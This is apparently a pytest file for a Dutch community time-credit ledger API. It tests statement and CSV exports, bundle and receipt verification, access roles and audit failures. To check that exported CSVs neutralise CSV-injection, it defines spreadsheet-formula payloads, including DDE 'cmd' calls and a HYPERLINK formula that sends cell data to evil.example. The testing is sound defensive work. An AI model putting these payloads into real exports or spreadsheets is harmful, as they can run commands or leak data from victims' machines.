"""The municipality's seat: statements, entry and balance CSVs and the bundle over HTTP,
and a member's receipt checked with ``buurtmunt verify-receipt``."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

import pytest
from sqlalchemy import text

from api import bootstrap, drafts, provisioning
from api.access import Role
from ledger.audit.csv_cells import FORMULA_STARTS
from ledger.ids import new_entry_id
from ledger.model import AccountType, Entry
from tests.support.api import (
    COMMUNITY,
    MEMBER_START_MINUTES,
    ORG_BUDGET_MINUTES,
    START,
    World,
    open_world,
)
from tests.support.api_checks import problem
from tests.support.shop_payments import a_payment

ROOT = Path(__file__).resolve().parents[2]
NOVEMBER = "2026-11"
# What a spreadsheet would run (OWASP "CSV injection"), one per character a formula starts with.
FORMULAS = [f"{start}SUM(1+1)*cmd|' /C calc'!A0" for start in FORMULA_STARTS]
# Memos must be printable (a tab or carriage return is text_invalid), so these four reach a memo.
MEMO_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-30",
]


def open_named(world: World, type: AccountType, name: str) -> str:
    """A new organisation's or shop's account named ``name``, opened as the admin API opens
    one (which also refuses a tab or carriage return as unprintable: the CSVs do not rely
    on that)."""
    actor = world.admin.staff_id
    assert actor is not None
    budget = ORG_BUDGET_MINUTES if type is AccountType.ORGANISATION else None

    async def open_() -> str:
        row = await provisioning.open_named_account(
            world.rt, COMMUNITY, type, name, actor, provisioning.account_plan(type), budget
        )
        return row.account_id

    return world.run(open_)


def pay_shop(world: World, shop: str, minutes: int) -> Entry:
    """Member 0 pays ``shop`` (a redeem entry), as the pay flows book it."""
    account = world.members[0].account
    assert account is not None

    async def book() -> Entry:
        draft = drafts.redeem(new_entry_id(), account, account, shop, minutes, "", "code:123456")
        return await drafts.append(world.rt.ledger, COMMUNITY, draft)

    return world.run(book)


def issue(world: World, org: str, minutes: int) -> Entry:
    """A new coordinator of ``org`` records ``minutes`` of work for member 1."""
    account = world.members[1].account
    assert account is not None

    async def book() -> Entry:
        coordinator = await bootstrap.person_for_token(
            world.rt, role=Role.COORDINATOR, community=COMMUNITY, name="Coordinator", scope=org
        )
        assert coordinator.staff_id is not None
        meta = drafts.earn_meta("boodschappen", START.date(), None)
        draft = drafts.earn(new_entry_id(), coordinator.staff_id, org, account, minutes, meta, "")
        return await drafts.append(world.rt.ledger, COMMUNITY, draft)

    return world.run(book)


def buurtmunt(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "api.cli", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        timeout=120,
    )


async def a_statement(
    world: World, fmt: str, period: str = NOVEMBER, language: str | None = None
) -> str:
    path = "/api/v1/statements" + ("" if fmt == "json" else f".{fmt}")
    params = {"period": period} | ({"language": language} if language else {})
    answer = await world.get(path, as_=world.auditor, params=params)
    assert answer.status_code == 200, answer.text
    if fmt == "html":
        # The page's own style sheet, and only it, is allowed in by its hash.
        (style,) = re.findall(r"<style>(.*?)</style>", answer.text, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
        assert f"style-src 'sha256-{digest}';" in answer.headers["content-security-policy"]
        assert "script-src 'self'" in answer.headers["content-security-policy"]
    return answer.text


async def test_an_auditor_downloads_the_statement_as_json_csv_and_html_with_names(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        a_payment(world, 90)

        document = json.loads(await a_statement(world, "json"))
        table = list(csv.DictReader(io.StringIO(await a_statement(world, "csv"))))
        page = await a_statement(world, "html")

        organisations = {o["account"]: o["name"] for o in document["organisations"]}
        assert organisations[world.org] == "Buurthuis"
        (shop,) = document["shops"]
        assert (shop["name"], shop["redeemed_minutes"]) == ("Slagerij", 90)
        assert document["circulation"]["reconciles"] is True
        earned = 2 * MEMBER_START_MINUTES
        assert document["circulation"]["earned_minutes"] == earned
        named = {(r["item"], r["name"]) for r in table if r["section"] in ("organisation", "shop")}
        assert (world.org, "Buurthuis") in named
        assert (world.shop, "Slagerij") in named
        assert "Buurthuis" in page and "Slagerij" in page and "<table" in page


async def test_the_printable_statement_is_dutch_unless_another_language_is_asked_for(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        a_payment(world, 90)

        dutch = await a_statement(world, "html")
        english = await a_statement(world, "html", language="en")
        arabic = await a_statement(world, "html", language="ar")
        unknown = await world.get(
            "/api/v1/statements.html",
            as_=world.auditor,
            params={"period": NOVEMBER, "language": "fr"},
        )

        assert '<html lang="nl" dir="ltr">' in dutch and "<td>1½ uur</td>" in dutch
        assert '<html lang="en" dir="ltr">' in english and "<td>1½ hours</td>" in english
        assert '<html lang="ar" dir="rtl">' in arabic and "<td>ساعة ونصف</td>" in arabic
        assert "Slagerij" in dutch and "Slagerij" in english and "Slagerij" in arabic
        assert unknown.status_code == 422, unknown.text


async def test_the_statement_waits_for_the_checkpoint_of_what_was_just_written(
    database_url: str,
) -> None:
    # Checkpoints are signed on a cadence: the second payment's batch is not signed yet
    # when the statement is asked for.
    async with open_world(database_url, checkpoint_interval_seconds=0.3) as world:
        a_payment(world, 90)
        last = a_payment(world, 30)

        document = json.loads(await a_statement(world, "json"))

        (shop,) = document["shops"]
        assert shop["redeemed_minutes"] == 120
        assert document["checkpoint_size"] == last.seq + 1


async def test_a_quarter_and_a_year_are_statements_too(database_url: str) -> None:
    async with open_world(database_url) as world:
        quarter = json.loads(await a_statement(world, "json", "2026-Q4"))
        year = json.loads(await a_statement(world, "json", "2026"))

        assert quarter["period"]["first_month"] == "2026-10"
        assert year["period"]["last_month"] == "2026-12"
        assert quarter["circulation"] == year["circulation"]


async def test_a_malformed_period_or_format_is_a_problem(database_url: str) -> None:
    async with open_world(database_url) as world:
        for path, params in (
            ("/api/v1/statements", {"period": "2026-13"}),
            ("/api/v1/statements", {}),
            ("/api/v1/statements.csv", {"period": "2026-11-01"}),
        ):
            answer = await world.get(path, as_=world.auditor, params=params)
            assert answer.status_code == 422, answer.text
            assert answer.headers["content-type"].startswith("application/problem+json")


async def test_members_shops_and_coordinators_may_not_download(database_url: str) -> None:
    paths = [
        "/api/v1/statements?period=2026-11",
        "/api/v1/exports/entries.csv",
        "/api/v1/exports/balances.csv",
        "/api/v1/exports/bundle",
    ]
    async with open_world(database_url) as world:
        for actor in (world.member, world.shop_staff, world.coordinator):
            for path in paths:
                problem(await world.get(path, as_=actor), 403, "forbidden")
        for path in paths:
            assert (await world.get(path, as_=world.admin)).status_code == 200, path


async def test_the_entries_csv_has_a_row_per_posting_by_seq_range_and_by_period(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        paid = a_payment(world, 45)

        everything = await world.get("/api/v1/exports/entries.csv", as_=world.auditor)
        ranged = await world.get(
            "/api/v1/exports/entries.csv", as_=world.auditor, params={"start": 2, "end": 4}
        )
        october = await world.get(
            "/api/v1/exports/entries.csv", as_=world.auditor, params={"period": "2026-10"}
        )

        rows = list(csv.DictReader(io.StringIO(everything.text)))
        payment = [r for r in rows if r["id"] == paid.id]
        assert [(r["kind"], r["payee"], r["amount_minutes"]) for r in payment] == [
            ("redeem", world.shop, "45")
        ]
        seqs = sorted({int(r["seq"]) for r in rows})
        assert seqs == list(range(seqs[-1] + 1))
        assert sorted({int(r["seq"]) for r in csv.DictReader(io.StringIO(ranged.text))}) == [2, 3]
        assert list(csv.DictReader(io.StringIO(october.text))) == []
        assert everything.headers["content-type"].startswith("text/csv")


async def test_the_entries_csv_writes_memos_a_spreadsheet_would_run_as_text(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        memos = [*MEMO_FORMULAS, "Boodschappen - bedankt!", ""]
        sent = []
        for memo in memos:
            given = await world.post(
                "/api/v1/transfers",
                {"payee": world.members[1].account, "amount_minutes": 30, "memo": memo},
                as_=world.member,
            )
            assert given.status_code == 201, given.text
            sent.append(given.json()["id"])
        unprintable = await world.post(
            "/api/v1/transfers",
            {"payee": world.members[1].account, "amount_minutes": 30, "memo": "\t=1+1"},
            as_=world.member,
        )

        answer = await world.get("/api/v1/exports/entries.csv", as_=world.auditor)

        problem(unprintable, 422, "text_invalid")
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
        written = [rows[entry_id]["memo"] for entry_id in sent]
        assert written == [*("'" + memo for memo in MEMO_FORMULAS), "Boodschappen - bedankt!", ""]
        assert {rows[entry_id]["amount_minutes"] for entry_id in sent} == {"30"}
        assert {rows[entry_id]["payee"] for entry_id in sent} == {world.members[1].account}


async def test_the_balances_csv_holds_every_account_at_the_head_checkpoint(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        a_payment(world, 30)
        checkpoint = (await world.get("/api/v1/ledger/checkpoint", as_=world.auditor)).json()

        answer = await world.get("/api/v1/exports/balances.csv", as_=world.auditor)

        rows = {r["account"]: r for r in csv.DictReader(io.StringIO(answer.text))}
        assert rows[world.shop]["balance_minutes"] == "30"
        assert rows[world.shop]["name"] == "Slagerij"
        assert rows[world.members[0].account or ""]["balance_minutes"] == "570"
        assert sum(int(r["balance_minutes"]) for r in rows.values()) == 0
        assert {r["checkpoint_size"] for r in rows.values()} == {str(checkpoint["size"])}


async def test_the_downloaded_bundle_unpacks_and_passes_buurtmunt_verify(
    database_url: str, tmp_path: Path
) -> None:
    async with open_world(database_url) as world:
        a_payment(world, 60)
        key = (await world.get("/api/v1/ledger/checkpoint", as_=world.auditor)).json()[
            "verifier_key"
        ]

        temporary = Path(tempfile.gettempdir())
        before = set(temporary.glob("buurtmunt-export-*"))
        answer = await world.get("/api/v1/exports/bundle", as_=world.auditor)
        left = set(temporary.glob("buurtmunt-export-*")) - before

        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("application/x-tar")
        with tarfile.open(fileobj=io.BytesIO(answer.content), mode="r:") as tar:
            names = tar.getnames()
            tar.extractall(tmp_path, filter="data")
        (directory,) = {n.split("/")[0] for n in names}
        assert directory.startswith(f"{COMMUNITY}-")
        verified = buurtmunt("verify", str(tmp_path / directory), "--key", key)
        assert verified.returncode == 0, verified.stdout + verified.stderr
        assert left == set(), "the server's temporary copy is removed once sent"


async def test_the_balances_csv_writes_names_a_spreadsheet_would_run_as_text(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        shops = {open_named(world, AccountType.SHOP, name): name for name in FORMULAS}
        earned = await world.post(
            "/api/v1/earnings",
            {
                "member": world.members[0].account,
                "amount_minutes": 30,
                "activity": "boodschappen",
                "worked_on": "2026-11-27",
            },
            as_=world.coordinator_b,
        )

        answer = await world.get("/api/v1/exports/balances.csv", as_=world.auditor)

        assert earned.status_code == 201, earned.text
        rows = {r["account"]: r for r in csv.DictReader(io.StringIO(answer.text))}
        assert {rows[account]["name"] for account in shops} == {"'" + n for n in FORMULAS}
        assert (rows[world.org_b]["name"], rows[world.org_b]["balance_minutes"]) == (
            "Welzijn",
            "-30",
        )
        assert rows[world.shop]["name"] == "Slagerij"
        assert sum(int(r["balance_minutes"]) for r in rows.values()) == 0


async def test_the_statement_csv_writes_names_a_spreadsheet_would_run_as_text(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:
        shops = {open_named(world, AccountType.SHOP, name): name for name in FORMULAS}
        orgs = {open_named(world, AccountType.ORGANISATION, name): name for name in FORMULAS}
        for shop in shops:
            pay_shop(world, shop, 10)
        earnings = [issue(world, org, 60) for org in orgs]
        corrected = await world.post(
            "/api/v1/corrections",
            {"entry_id": earnings[0].id, "amount_minutes": 30, "reason": "-30 te veel"},
            as_=world.admin,
        )

        document = json.loads(await a_statement(world, "json"))
        table = list(csv.DictReader(io.StringIO(await a_statement(world, "csv"))))

        assert corrected.status_code == 201, corrected.text
        names = {r["item"]: r["name"] for r in table if r["section"] in ("organisation", "shop")}
        assert {names[account] for account in [*shops, *orgs]} == {"'" + n for n in FORMULAS}
        assert (names[world.org], names[world.shop]) == ("Buurthuis", "Slagerij")
        figures = {(r["section"], r["figure"]): r["minutes"] for r in table if not r["month"]}
        assert figures[("circulation", "corrections")] == "-30"
        # The JSON form has no spreadsheet to fear: its names are as the directory holds them.
        assert {line["name"] for line in document["shops"]} == {*FORMULAS, "Slagerij"}


@pytest.mark.parametrize("tamper", [None, "entry", "proof"])
async def test_buurtmunt_verify_receipt_checks_a_receipt_from_the_api(
    sqlite_url: str, tmp_path: Path, tamper: str | None
) -> None:
    async with open_world(sqlite_url) as world:
        paid = a_payment(world, 15)
        document = (await world.get(f"/api/v1/receipts/{paid.id}", as_=world.member)).json()
    if tamper == "entry":
        original = document["entry"]
        document["entry"] = original.replace('"minutes":15', '"minutes":16')
        assert document["entry"] != original
    if tamper == "proof":
        lines = document["receipt"].split("\n")
        lines[2] = ("B" if lines[2][0] == "A" else "A") + lines[2][1:]
        document["receipt"] = "\n".join(lines)
    receipt = tmp_path / "receipt.json"
    receipt.write_text(json.dumps(document), encoding="utf-8")

    checked = buurtmunt("verify-receipt", str(receipt), "--key", document["verifier_key"])

    assert checked.returncode == (0 if tamper is None else 1), checked.stdout + checked.stderr
    if tamper is None:
        assert f"entry {document['seq']} is in {document['origin']}" in checked.stdout
    else:
        assert "receipt refused" in checked.stdout


async def test_verify_receipt_takes_the_tlog_proof_text_and_the_entry_apart(
    sqlite_url: str, tmp_path: Path
) -> None:
    async with open_world(sqlite_url) as world:
        paid = a_payment(world, 15)
        document = (await world.get(f"/api/v1/receipts/{paid.id}", as_=world.member)).json()
    (tmp_path / "receipt.txt").write_text(document["receipt"], encoding="utf-8")
    (tmp_path / "entry.json").write_text(document["entry"], encoding="utf-8")
    key = document["verifier_key"]

    alone = buurtmunt("verify-receipt", str(tmp_path / "receipt.txt"), "--key", key)
    together = buurtmunt(
        "verify-receipt", str(tmp_path / "receipt.txt"), "--key", key,
        "--entry", str(tmp_path / "entry.json"),
    )  # fmt: skip

    assert alone.returncode == 2 and "--entry" in alone.stderr
    assert together.returncode == 0, together.stdout + together.stderr


async def test_a_journal_whose_audit_finds_something_gives_no_statement(
    database_url: str,
) -> None:
    async with open_world(database_url) as world:

        async def edit_the_cache() -> None:
            async with world.rt.store.engine.begin() as conn:
                await conn.execute(
                    text(
                        "UPDATE accounts SET balance_minutes = balance_minutes + 60 "
                        "WHERE community = :c AND id = :id"
                    ),
                    {"c": COMMUNITY, "id": world.shop},
                )

        world.run(edit_the_cache)

        answer = await world.get(
            "/api/v1/statements", as_=world.auditor, params={"period": NOVEMBER}
        )

        assert problem(answer, 409, "audit_not_clean")["findings"] >= 1
